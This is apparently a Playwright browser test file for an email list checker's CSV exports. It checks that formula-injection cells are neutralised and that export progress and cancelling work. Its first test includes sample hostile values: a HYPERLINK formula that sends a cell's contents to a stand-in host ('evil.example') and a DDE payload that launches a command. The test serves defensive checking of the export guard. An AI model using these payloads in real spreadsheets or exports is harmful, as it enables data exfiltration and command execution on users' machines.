// Browser tests of the list checker's finer points (www/list.html), small and
// fast, in headless Debian Chromium driven by playwright-core: the
// spreadsheet-formula guard of the exports; the exports' progress and cancel.
//
//   bash scripts/install-chromium.sh && bash crates/wasm/build.sh && cargo build -p prebounce-probe
//   node --test tests/browser/
import { describe, test, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { makeList } from './list-data.mjs';
import { skip, startBrowser, finished, records, download } from './list-page.mjs';

describe('list checker: exports, undo, deep-check depth, keyboard, encodings', { skip, timeout: 180_000 }, () => {
  let browser = null;

  before(async () => {
    browser = await startBrowser();
  });

  after(async () => {
    if (browser) await browser.close();
  });

  afterEach(() => browser.closePages());

  /** Loads `text` (or bytes) as a file named `name` and waits for the run to end. */
  async function load(page, name, content, mimeType = 'text/csv') {
    await page.setInputFiles('#file', { name, mimeType, buffer: Buffer.isBuffer(content) ? content : Buffer.from(content) });
    await finished(page);
    await page.waitForFunction((n) => window.listApp.name === n && window.listApp.state === 'done', name);
  }

  test('every CSV export guards cells a spreadsheet would run as formulas, the address too; the guard can be turned off', async () => {
    const page = await browser.open();
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const dde = "=cmd|' /C calc'!A0";
    const csv = [
      'name,email,note',
      `"${formula.replaceAll('"', '""')}",ana@example.com,+1 555 0100`,
      'Bob,-bob@example.com,@bob on chat',
      '"=1+1\nsecond line",carl@example.com,"\ttabbed"',
      `Dan,"${dde}",-`,
      'Eve,eve@example.com,"\rafter a carriage return"',
    ].join('\n');
    await load(page, 'formulas.csv', `${csv}\n`);
    assert.equal(await page.isChecked('#export-guard'), true, 'the guard is on by default');

    const clean = records((await download(page, '#export-clean')).text);
    assert.deepEqual(clean, [
      ['name', 'email', 'note'],
      [`'${formula}`, 'ana@example.com', "'+1 555 0100"],
      ['Bob', "'-bob@example.com", "'@bob on chat"],
      ["'=1+1\nsecond line", 'carl@example.com', "'\ttabbed"],
      ['Eve', 'eve@example.com', "'\rafter a carriage return"],
    ]);
    const suppression = records((await download(page, '#export-suppression')).text);
    assert.deepEqual(suppression, [['name', 'email', 'note'], ['Dan', `'${dde}`, "'-"]]);
    const annotated = records((await download(page, '#export-annotated')).text);
    assert.deepEqual(annotated.map((r) => r.slice(0, 4)), [
      ['name', 'email', 'note', 'status'],
      [`'${formula}`, 'ana@example.com', "'+1 555 0100", 'valid'],
      ['Bob', "'-bob@example.com", "'@bob on chat", 'valid'],
      ["'=1+1\nsecond line", 'carl@example.com', "'\ttabbed", 'valid'],
      ['Dan', `'${dde}`, "'-", 'invalid'],
      ['Eve', 'eve@example.com', "'\rafter a carriage return", 'valid'],
    ]);

    // Off: the cells as they were.
    await page.uncheck('#export-guard');
    const raw = records((await download(page, '#export-clean')).text);
    assert.deepEqual(raw[1], [formula, 'ana@example.com', '+1 555 0100']);
    assert.deepEqual(raw[2], ['Bob', '-bob@example.com', '@bob on chat']);

    // A text list's clean list (one address a line) is guarded the same way.
    await page.check('#export-guard');
    await load(page, 'plain.txt', '-ana@example.com\nbob@example.com\n', 'text/plain');
    assert.equal((await download(page, '#export-clean')).text, "'-ana@example.com\nbob@example.com\n");
    assert.deepEqual(page.errors, []);
  });

  test('an export shows its progress while it is made, and can be cancelled', async () => {
    const page = await browser.open();
    // 20,000 records, about 1.2 MB: several of the worker's batches (512 KB of text each).
    const list = makeList({ rows: 20_000, seed: 11 });
    await load(page, 'twenty.csv', list.bytes);
    const downloads = [];
    page.on('download', (d) => downloads.push(d.suggestedFilename()));
    const file = page.waitForEvent('download');

    // The bar and the cancel button show as soon as the button is pressed.
    const shown = await page.evaluate(() => {
      document.getElementById('export-annotated').click();
      return { bar: !document.getElementById('export-bar').hidden, cancel: !document.getElementById('export-cancel').hidden };
    });
    assert.deepEqual(shown, { bar: true, cancel: true });
    await page.waitForFunction(() => window.listApp.export.state === 'done');
    const done = await page.evaluate(() => ({ ...window.listApp.export }));
    assert.ok(done.updates >= 2, `progress was reported between batches (${done.updates} updates)`);
    assert.equal(done.done, 1, 'the last report is the end of the text');
    assert.equal(await page.isHidden('#export-bar'), true, 'the bar goes when the file is ready');
    assert.equal(await page.isHidden('#export-cancel'), true);
    assert.match(await page.textContent('#export-status'), /^twenty-annotated\.csv: 20,000 rows, downloaded\.$/);
    assert.equal((await file).suggestedFilename(), 'twenty-annotated.csv');

    // Cancelled right after the start (both clicks in one task, so the cancel
    // reaches the worker before its second batch): no file, and the focus,
    // which was on the cancel button, returns to the export's button.
    const before = downloads.length;
    await page.evaluate(() => {
      document.getElementById('export-annotated').click();
      const cancel = document.getElementById('export-cancel');
      cancel.focus();
      cancel.click();
    });
    await page.waitForFunction(() => window.listApp.export.state !== 'running');
    assert.equal(await page.evaluate(() => window.listApp.export.state), 'cancelled');
    assert.equal(await page.textContent('#export-status'), 'Download cancelled.');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'export-annotated');
    await page.waitForTimeout(300);
    assert.equal(downloads.length, before, 'nothing was downloaded');
    assert.deepEqual(page.errors, []);
  });
});
